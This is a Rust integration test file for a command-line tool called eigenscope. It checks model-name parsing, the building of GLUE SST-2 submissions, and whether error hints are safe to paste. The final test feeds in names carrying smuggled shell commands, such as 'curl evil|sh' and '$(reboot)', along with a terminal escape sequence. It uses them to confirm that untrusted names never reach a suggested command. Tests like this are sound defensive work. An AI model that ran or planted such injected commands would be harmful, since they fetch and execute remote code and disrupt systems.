//! Names of models as people write them on the command line and as files of others bring them.

use super::*;

#[test]
fn every_way_to_name_a_model_is_understood() {
    let world = World::new();
    let address = format!("{}/org/tiny/", world.server.address);
    for args in [
        &["org/tiny"][..],
        &["org/tiny@v1/x"],
        &["org/tiny", "--revision", "v1/x"],
        &[&format!("org/tiny@{COMMIT}")],
        &[&address],
    ] {
        let output = program(&world, &[&["fetch", "model"], args].concat());
        assert!(output.status.success(), "{args:?}: {}", text(&output.stderr));
        let at = if args[0].contains(COMMIT) { COMMIT } else { "v1/x" };
        let is_main = args.len() == 1 && !args[0].contains('@');
        let usage = if is_main { "--model org/tiny\n".into() } else { format!("--model org/tiny@{at}\n") };
        says(&text(&output.stdout), &[&usage]);
    }
    let list = text(&program(&world, &["fetch", "list"]).stdout);
    says(&list, &["model    org/tiny ", "model    org/tiny@v1/x "]);
    assert_eq!(list.lines().count(), 2, "the commit has names: {list}");
    let both = refused(&world, &["fetch", "model", "org/tiny@v1/x", "--revision", "main"]);
    says(&both, &["org/tiny@v1/x names a revision", "--revision main", "name one"]);
    says(&refused(&world, &["fetch", "model", "a b"]), &["\"a b\" is no id"]);
}

#[test]
fn a_submission_is_made_of_the_hubs_test_rows() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/glue-parquet");
    let names = ["train-00000-of-00001", "validation-00000-of-00001", "test-00000-of-00002", "test-00001-of-00002"];
    let names = names.map(|name| format!("sst2/{name}.parquet"));
    let files: Vec<(&str, Vec<u8>)> =
        names.iter().map(|n| (n.as_str(), fs::read(root.join(n)).expect("a file"))).collect();
    let mut world = World::new();
    world.server = Server::start("datasets/nyu-mll/glue", &files[..2]);
    let train = "train --task sst-2 --train-rows 8 --epochs 1 --rank 2 --max-length 16 --data hub:nyu-mll/glue";
    let zip = world.folder.path().join("s.zip").display().to_string();
    let submit = ["submit", "--partial", "--json", "--out", zip.as_str()];
    let done = |world: &World, args: &[&str]| {
        let output = program(world, args);
        assert!(output.status.success(), "{args:?}: {}", text(&output.stderr));
        text(&output.stdout)
    };
    done(&world, &["fetch", "glue", "sst-2"]);
    done(&world, &train.split(' ').collect::<Vec<_>>());
    // As an older fetch left the cache, without test rows.
    says(&refused(&world, &submit), &["sst2/test-*.parquet of hub:nyu-mll/glue", "`eigenscope fetch glue sst-2`"]);
    world.server = Server::start("datasets/nyu-mll/glue", &files);
    done(&world, &["fetch", "glue", "sst-2"]);
    let told: serde_json::Value = serde_json::from_str(&done(&world, &submit)).expect("JSON");
    assert_eq!((&told["files"][0]["file"], &told["files"][0]["rows"]), (&"SST-2.tsv".into(), &7.into()), "{told}");
    let check = program(&world, &["submit", "check", &zip, "--data", "hub:nyu-mll/glue", "--partial"]);
    assert!(check.status.success(), "{}", text(&check.stderr));
}

#[test]
fn the_hint_can_be_pasted_and_holds_nothing_else() {
    let world = World::new();
    let train = |model: &str| refused(&world, &["train", "--task", "sst-2", "--model", model]);
    let hint = "eigenscope fetch model org/tiny@v1/x";
    says(&train("org/tiny@v1/x"), &[&format!("`{hint}`")]);
    let words: Vec<&str> = hint.split(' ').skip(1).collect();
    assert!(program(&world, &words).status.success());
    // A name that comes from a file of others is shown, and no shell is offered it.
    for name in ["x y; curl evil|sh", "org/x@v1;curl evil|sh", "x`reboot`", "org/x@$(reboot)", "x\u{1b}[2Jy"] {
        let said = train(name);
        assert!(!said.contains("eigenscope fetch") && !said.contains('\u{1b}'), "{said}");
        says(&said, &["--model FOLDER"]);
    }
    let said = refused(&world, &["train", "--task", "sst-2", "--data", "hub:nyu-mll/glue@v1;curl evil|sh"]);
    assert!(said.contains("`eigenscope fetch glue`"), "{said}");
}
